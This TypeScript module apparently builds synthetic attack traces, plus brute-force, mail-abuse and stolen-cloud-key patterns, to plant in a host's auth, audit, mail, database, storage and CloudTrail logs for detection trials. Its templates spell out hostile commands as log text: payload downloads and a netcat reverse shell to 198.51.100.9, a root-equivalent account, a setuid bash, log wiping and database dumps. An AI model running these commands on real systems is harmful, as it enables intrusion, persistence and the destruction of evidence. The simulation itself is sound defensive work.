// Attacks as the logs of a host show them: logins, commands, mail, cloud. Only in formats that the user's logs have.
import type { Random } from '../vocabulary/random.ts';
import { accessTime } from './access-time.ts';
import type { SiteVocabulary } from './site-vocabulary.ts';

export type Stage = {
  readonly atMs: number;
  readonly ip: string;
  /** A user name of this trial alone. */
  readonly user: string;
  /** A host name of this trial alone, made of the user's own. */
  readonly host: string;
  readonly site: SiteVocabulary;
  readonly random: Random;
};
export type PlantedLine = {
  readonly file: 'auth' | 'audit' | 'mail' | OwnLog;
  readonly atMs: number;
  readonly text: string;
};
export type HostTemplate = (stage: Stage) => PlantedLine[];

/** Logs that not every host has, and whose attacks no other log could show: planted only where there is such a log. */
export type OwnLog = 'postgres' | 'mysql' | 'storage' | 'cloud';

const stamp = (ms: number) => `${new Date(ms).toISOString().slice(0, 23)}000+00:00`;

function said(stage: Stage, after: number, program: string, message: string): PlantedLine {
  const atMs = stage.atMs + after * 1000;
  const file = /^(?:postfix|dovecot)/.test(program) ? 'mail' : 'auth';
  return { file, atMs, text: `${stamp(atMs)} ${stage.host} ${program}: ${message}` };
}

const pid = (random: Random) => 2000 + random.below(28_000);

function sudo(commands: readonly string[]): HostTemplate {
  return (stage) =>
    commands.map((command, i) =>
      said(
        stage,
        i * 20,
        'sudo',
        `${stage.user} : TTY=pts/0 ; PWD=/home/${stage.user} ; USER=root ; COMMAND=${command}`,
      ),
    );
}

const hex = (text: string) => Buffer.from(text, 'latin1').toString('hex').toUpperCase();

/** execve by the kernel's audit: SYSCALL, EXECVE, CWD, PATH and PROCTITLE of one serial. */
function executed(uid: number, argv: readonly (readonly string[])[]): HostTemplate {
  return (stage) =>
    argv.flatMap((words, i) => {
      const atMs = stage.atMs + i * 15_000;
      const id = `audit(${(atMs / 1000).toFixed(3)}:${9_000_000 + stage.random.below(900_000)})`;
      const process = pid(stage.random);
      const exe = words[0] ?? '/bin/sh';
      const lines = [
        `type=SYSCALL msg=${id}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=${process - 1} pid=${process} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="${exe.slice(exe.lastIndexOf('/') + 1)}" exe="${exe}" key=(null)`,
        `type=EXECVE msg=${id}: argc=${words.length} ${words.map((word, k) => `a${k}=${/[\s"]/.test(word) ? hex(word) : `"${word}"`}`).join(' ')}`,
        `type=CWD msg=${id}: cwd="/var/www/html"`,
        `type=PROCTITLE msg=${id}: proctitle=${hex(words.join('\0'))}`,
      ];
      return lines.map((text): PlantedLine => ({ file: 'audit', atMs, text: `node=${stage.host} ${text}` }));
    });
}

/** Where the only logins on record are those to mailboxes, they are what is guessed at. */
function guessedMailbox({ failures, names, stage }: { failures: number; names: readonly string[]; stage: Stage }) {
  const from = `method=PLAIN, rip=${stage.ip}, lip=192.0.2.25, TLS`;
  return [
    ...Array.from({ length: failures }, (_, i) => {
      const name = names[i % names.length] ?? 'info';
      return said(
        stage,
        i * 4,
        'dovecot',
        `imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<${name}>, ${from}`,
      );
    }),
    said(stage, failures * 4, 'dovecot', `imap-login: Login: user=<${stage.user}>, ${from}`),
  ];
}

const hasOnlyMail = ({ formats }: SiteVocabulary): boolean =>
  formats.some((format) => format === 'postfix' || format === 'dovecot') &&
  !formats.some((format) => /^(?:sshd|syslog|journald)/.test(format));

function guessed(failures: number, names: readonly string[]): HostTemplate {
  return (stage) => {
    if (hasOnlyMail(stage.site)) return guessedMailbox({ failures, names, stage });
    const lines: PlantedLine[] = [];
    for (let i = 0; i < failures; i += 1) {
      const name = names[i % names.length] ?? 'root';
      const process = pid(stage.random);
      lines.push(
        said(stage, i * 4, `sshd[${process}]`, `Failed password for ${name} from ${stage.ip} port ${40_000 + i} ssh2`),
      );
    }
    const process = pid(stage.random);
    lines.push(
      said(
        stage,
        failures * 4,
        `sshd[${process}]`,
        `Accepted password for ${stage.user} from ${stage.ip} port 50111 ssh2`,
      ),
    );
    lines.push(
      said(
        stage,
        failures * 4,
        `sshd[${process}]`,
        `pam_unix(sshd:session): session opened for user ${stage.user} by (uid=0)`,
      ),
    );
    return lines;
  };
}

function mailed(count: number): HostTemplate {
  return (stage) =>
    Array.from({ length: count }, (_, i) => {
      const id = (0xa000000 + stage.random.below(0xfffffff)).toString(16).toUpperCase();
      const from = `client=unknown[${stage.ip}], sasl_method=LOGIN, sasl_username=${stage.user}@example.com`;
      return [
        said(stage, i, `postfix/smtpd[${pid(stage.random)}]`, `${id}: ${from}`),
        said(
          stage,
          i + 1,
          `postfix/smtp[${pid(stage.random)}]`,
          `${id}: to=<r${i}@example.net>, relay=mx.example.net[192.0.2.7]:25, delay=1.1, delays=0.1/0/0.4/0.6, dsn=2.0.0, status=sent (250 ok)`,
        ),
      ];
    }).flat();
}

function called(events: readonly (readonly [string, string])[]): HostTemplate {
  return (stage) =>
    events.map(([eventSource, eventName], i) => {
      const atMs = stage.atMs + i * 9000;
      const userIdentity = {
        type: 'IAMUser',
        userName: stage.user,
        arn: `arn:aws:iam::111122223333:user/${stage.user}`,
      };
      const text = JSON.stringify({
        eventVersion: '1.08',
        userIdentity,
        eventTime: `${new Date(atMs).toISOString().slice(0, 19)}Z`,
        ...{
          eventSource,
          eventName,
          awsRegion: 'ap-northeast-1',
          sourceIPAddress: stage.ip,
          userAgent: 'aws-cli/2.13.0',
        },
        ...{ requestParameters: null, responseElements: null, eventType: 'AwsApiCall' },
      });
      return { file: 'cloud', atMs, text };
    });
}

const spaced = (ms: number) => new Date(ms).toISOString().slice(0, 23).replace('T', ' ');
const tables = ['members', 'answers', 'orders'];

/** pg_dump with the account of the application, from an address of its own. */
function dumpedPostgres(stage: Stage): PlantedLine[] {
  const process = pid(stage.random);
  const account = `${stage.user}@app `;
  const spoken = [
    ['[unknown]@[unknown] ', `connection received: host=${stage.ip} port=${40_000 + stage.random.below(20_000)}`],
    [account, `connection authorized: user=${stage.user} database=app application_name=pg_dump`],
    ...tables.map((table) => [account, `statement: COPY public.${table} (id, name, email) TO stdout;`]),
  ];
  return spoken.map(([who, message], i): PlantedLine => {
    const atMs = stage.atMs + i * 900;
    return { file: 'postgres', atMs, text: `${spaced(atMs)} UTC [${process}] ${who}LOG:  ${message}` };
  });
}

/** mysqldump, as the general log tells it. */
function dumpedMysql(stage: Stage): PlantedLine[] {
  const thread = 900_000 + stage.random.below(90_000);
  const spoken = [
    `Connect\t${stage.user}@${stage.ip} on app using TCP/IP`,
    ...tables.map((table) => `Query\tSELECT /*!40001 SQL_NO_CACHE */ * FROM \`${table}\``),
    'Quit\t',
  ];
  return spoken.map((words, i): PlantedLine => {
    const atMs = stage.atMs + i * 900;
    return { file: 'mysql', atMs, text: `${new Date(atMs).toISOString().replace('Z', '000Z')}\t${thread} ${words}` };
  });
}

/** Lists of people read out of an open bucket, by nobody who said who it was. */
function readStorage(stage: Stage): PlantedLine[] {
  const owner = '5f'.repeat(32);
  return ['export/members.csv', 'export/answers-2025.xlsx', 'backup/customers.sql.gz'].map((key, i): PlantedLine => {
    const atMs = stage.atMs + i * 4000;
    const asked = `"GET /${key} HTTP/1.1" 200 - 731022 731022 40 12 "-" "python-requests/2.31" -`;
    const text = `${owner} files [${accessTime(atMs)}] ${stage.ip} - ${(2 ** 48 + stage.random.below(2 ** 30)).toString(16).toUpperCase()} REST.GET.OBJECT ${key} ${asked}`;
    return { file: 'storage', atMs, text };
  });
}

/** A key that wrote copies every day from one place, and one day reads them from another. */
function stolenKey(stage: Stage): PlantedLine[] {
  const home = `198.19.255.${1 + stage.random.below(254)}`;
  const arn = `arn:aws:iam::111122223333:user/${stage.user}`;
  const accessKeyId = `AKIA${(2 ** 48 + stage.random.below(2 ** 30)).toString(32).toUpperCase().padStart(16, 'A')}`;
  const call = (eventName: string, atMs: number, ip: string, agent: string, i: number): PlantedLine => {
    const text = JSON.stringify({
      eventVersion: '1.09',
      userIdentity: { type: 'IAMUser', userName: stage.user, arn, accessKeyId },
      eventTime: `${new Date(atMs).toISOString().slice(0, 19)}Z`,
      ...{ eventSource: 's3.amazonaws.com', eventName, awsRegion: 'ap-northeast-1' },
      ...{ sourceIPAddress: ip, userAgent: agent, eventCategory: 'Data', eventType: 'AwsApiCall' },
      requestParameters: { bucketName: 'copies', key: `${new Date(atMs).toISOString().slice(0, 10)}/${i}.gz` },
      responseElements: null,
    });
    return { file: 'cloud', atMs, text };
  };
  const day = 86_400_000;
  const habit = Array.from({ length: 30 }, (_, i) => {
    const atMs = stage.atMs - (10 - Math.floor(i / 3)) * day + (i % 3) * 5000;
    return call('PutObject', atMs, home, 'aws-cli/2.13.5 Python/3.11.4 Linux/5.15.0', i);
  });
  const theft = Array.from({ length: 30 }, (_, i) =>
    call('GetObject', stage.atMs + i * 4000, stage.ip, 'Boto3/1.34.0 md/Botocore#1.34.0', i),
  );
  return [...habit, ...theft];
}

/** Attacks of logs that not every host has: which log, and how they look there. */
export const ownAttacks: readonly { readonly id: string; readonly log: OwnLog; readonly template: HostTemplate }[] = [
  { id: 'data-dump', log: 'postgres', template: dumpedPostgres },
  { id: 'data-dump', log: 'mysql', template: dumpedMysql },
  { id: 'sensitive-file', log: 'storage', template: readStorage },
  { id: 'cloud-abuse', log: 'cloud', template: stolenKey },
];

export const hostAttacks: Readonly<Record<string, readonly HostTemplate[]>> = {
  'bruteforce-login': [
    guessed(40, ['root', 'admin', 'test']),
    guessed(25, ['oracle', 'git', 'ubuntu', 'deploy', 'pi', 'ftp']),
  ],
  'privilege-change': [
    sudo(['/usr/sbin/usermod -aG sudo backup', '/usr/sbin/useradd -o -u 0 sysadm', '/usr/bin/chmod u+s /bin/bash']),
    (stage) => [
      said(
        stage,
        0,
        `useradd[${pid(stage.random)}]`,
        `new user: name=${stage.user}, UID=0, GID=0, home=/root, shell=/bin/bash`,
      ),
      said(stage, 3, `usermod[${pid(stage.random)}]`, `add '${stage.user}' to group 'sudo'`),
    ],
  ],
  'data-dump': [
    sudo(['/usr/bin/mysqldump --all-databases --result-file=/tmp/a.sql', '/bin/tar czf /tmp/a.tgz /var/lib/mysql']),
    executed(33, [
      ['/usr/bin/mysqldump', '-u', 'app', 'survey', 'answers'],
      ['/bin/tar', 'czf', '/tmp/a.tgz', '/var/www/data'],
    ]),
  ],
  'log-clearing': [
    sudo([
      '/usr/bin/truncate -s 0 /var/log/auth.log',
      '/bin/rm -f /var/log/apache2/access.log',
      '/usr/bin/journalctl --vacuum-time=1s',
    ]),
    executed(0, [
      ['/bin/rm', '-f', '/var/log/auth.log'],
      ['/usr/bin/shred', '-u', '/var/log/wtmp'],
    ]),
  ],
  'web-user-exec': [
    executed(33, [
      ['/bin/sh', '-c', 'id; uname -a'],
      ['/usr/bin/id'],
      ['/usr/bin/wget', 'http://198.51.100.9/x', '-O', '/tmp/x'],
    ]),
    executed(33, [
      ['/usr/bin/python3', '-c', 'import pty;pty.spawn("/bin/bash")'],
      ['/bin/bash', '-i'],
    ]),
  ],
  'post-exploit': [
    executed(1000, [
      ['/usr/bin/curl', '-s', 'http://198.51.100.9/l.sh'],
      ['/bin/chmod', '+x', '/tmp/.x'],
      ['/tmp/.x'],
      ['/bin/nc', '-e', '/bin/sh', '198.51.100.9', '4444'],
    ]),
    sudo(['/usr/bin/curl http://198.51.100.9/l.sh -o /tmp/.l', '/usr/bin/nc -lvp 4444 -e /bin/bash']),
  ],
  'mail-abuse': [mailed(120), mailed(300)],
  'cloud-abuse': [
    called([
      ['sts.amazonaws.com', 'GetCallerIdentity'],
      ['iam.amazonaws.com', 'CreateAccessKey'],
      ['iam.amazonaws.com', 'AttachUserPolicy'],
      ['s3.amazonaws.com', 'ListBuckets'],
    ]),
    called([
      ['cloudtrail.amazonaws.com', 'StopLogging'],
      ['iam.amazonaws.com', 'CreateUser'],
      ['iam.amazonaws.com', 'CreateLoginProfile'],
    ]),
  ],
};
